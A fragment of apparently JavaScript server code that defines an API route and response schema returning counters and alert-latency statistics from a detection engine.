  app.get('/api/v1/metrics/detection', { config: { permission: 'alerts:read' }, schema: { tags: ['system'], summary: 'Detection engine counters and alert latency', description: 'Rules active, events evaluated, detections, alerts created and grouped, alert latency percentiles and histogram, correlation state and prefilter statistics (also exported at GET /metrics).', response: { 200: { description: 'Detection metrics', type: 'object', required: ['rulesActive', 'eventsEvaluated', 'detections', 'alertsCreated', 'alertsGrouped', 'alertLatencyHistogram'], additionalProperties: true, properties: { rulesActive: { type: 'integer' }, correlationsActive: { type: 'integer' }, eventsEvaluated: { type: 'integer' }, detections: { type: 'integer' }, alertsCreated: { type: 'integer' }, alertsGrouped: { type: 'integer' }, alertLatencyP50Ms: nullable({ type: 'number' }), alertLatencyP99Ms: nullable({ type: 'number' }), alertLatencyHistogram: { type: 'object', required: ['boundsMs', 'counts', 'sumMs', 'count'], properties: { boundsMs: { type: 'array', items: { type: 'number' } }, counts: { type: 'array', items: { type: 'integer' } }, sumMs: { type: 'number' }, count: { type: 'integer' } } }, correlationState: { type: 'integer' }, index: nullable({ type: 'object', additionalProperties: true }) }, examples: [{ rulesActive: 38, correlationsActive: 2, eventsEvaluated: 48000, detections: 5, alertsCreated: 3, alertsGrouped: 2, alertLatencyP50Ms: 0.8, alertLatencyP99Ms: 3.1, alertLatencyHistogram: { boundsMs: [1, 2.5, 5], counts: [2, 0, 1, 0], sumMs: 4.2, count: 3 }, correlationState: 0, index: null }] } } } }, async () => detection.metrics());
}
